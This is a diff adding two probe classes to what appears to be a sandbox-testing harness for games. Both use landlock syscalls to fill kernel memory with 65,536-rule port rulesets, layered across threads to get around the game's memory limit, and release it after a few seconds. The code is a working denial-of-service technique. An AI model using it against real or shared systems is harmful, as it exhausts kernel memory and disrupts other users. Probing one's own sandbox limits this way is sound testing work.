@@ -372,3 +372,97 @@ class Probe11(Once):
             f"{len(found)} mounts, {len(view)} of them the view's copy; the others: "
             + " | ".join(m for m in found if m not in view and "devtmpfs" not in m),
         )
+
+
+class LandFlood(Once):
+    """Kernel memory outside every limit of a game: landlock rulesets (allowed: landlock is
+    the game's own restriction) hold one rule per TCP port, each a kernel allocation the
+    address-space limit does not count; ``landlock_restrict_self`` copies them into the
+    thread's domain (up to 16 layers a thread). Held for ``HOLD`` s, then released."""
+
+    NAME = "LandFlood"
+    RULESETS = 4  # each of 65,536 rules
+    LAYERS = 2  # restrict_self with the first rulesets: the domain copies their rules
+    HOLD = 4.0
+
+    def attack(self, view) -> None:
+        attr = (ctypes.c_uint64 * 3)(0, 3, 0)  # handled: BIND_TCP | CONNECT_TCP
+        port = (ctypes.c_uint64 * 2)(3, 0)
+        start = time.perf_counter()
+        fds, rules = [], 0
+        for _ in range(self.RULESETS):
+            fd = _sys(SYS["landlock_create_ruleset"], ctypes.byref(attr), 24, 0)
+            if fd < 0:
+                say(self.NAME, f"create_ruleset {_errno(fd)}")
+                break
+            fds.append(fd)
+            for p in range(65536):
+                port[1] = p
+                if _sys(445, fd, 2, ctypes.byref(port), 0) < 0:
+                    say(self.NAME, f"add_rule port {p}: {_errno(-1)}")
+                    break
+                rules += 1
+        built = time.perf_counter() - start
+        layers = 0
+        for fd in fds[: self.LAYERS]:
+            if _sys(446, fd, 0) == 0:
+                layers += 1
+        say(
+            self.NAME,
+            f"{len(fds)} rulesets, {rules} port rules in {built:.2f} s; {layers} layers enforced on the game's first thread; holding {self.HOLD} s",
+        )
+        time.sleep(self.HOLD)
+        for fd in fds:
+            os.close(fd)
+
+
+class LandThreads(Planner):
+    """LandFlood's kind of rules, in ``THREADS`` threads that each enforce one ruleset of
+    65,536 port rules 16 times (landlock's most layers): each thread's domain is a copy of
+    its rules with 16 layers each, held by that thread's credentials until it ends. Built
+    in the background while the game goes on (each decision waits at most 8 s for it)."""
+
+    NAME = "LandThreads"
+    THREADS = 8
+    HOLD = 4.0
+
+    def decide(self, view):
+        if not hasattr(self, "_flood"):
+            self._flood = threading.Thread(target=self.flood, daemon=True)
+            self._flood.start()
+        self._flood.join(8.0)
+        return super().decide(view)
+
+    def flood(self) -> None:
+        threading.stack_size(1 << 18)
+        attr = (ctypes.c_uint64 * 3)(0, 3, 0)
+        fd = _sys(SYS["landlock_create_ruleset"], ctypes.byref(attr), 24, 0)
+        port = (ctypes.c_uint64 * 2)(3, 0)
+        for p in range(65536):
+            port[1] = p
+            _sys(445, fd, 2, ctypes.byref(port), 0)
+        done, layers = threading.Event(), []
+
+        def hold() -> None:
+            k = 0
+            while k < 16 and _sys(446, fd, 0) == 0:
+                k += 1
+            layers.append(k)
+            done.wait(30)
+
+        start = time.perf_counter()
+        threads = [threading.Thread(target=hold) for _ in range(self.THREADS)]
+        for t in threads:
+            t.start()
+        while len(layers) < len(threads) and time.perf_counter() - start < 60:
+            time.sleep(0.05)
+        say(
+            self.NAME,
+            f"{len(threads)} threads, layers each {layers} in {time.perf_counter() - start:.2f} s; holding {self.HOLD} s",
+        )
+        time.sleep(self.HOLD)
+        done.set()
+        for t in threads:
+            t.join()
+        os.close(fd)
+        say(self.NAME, "released")
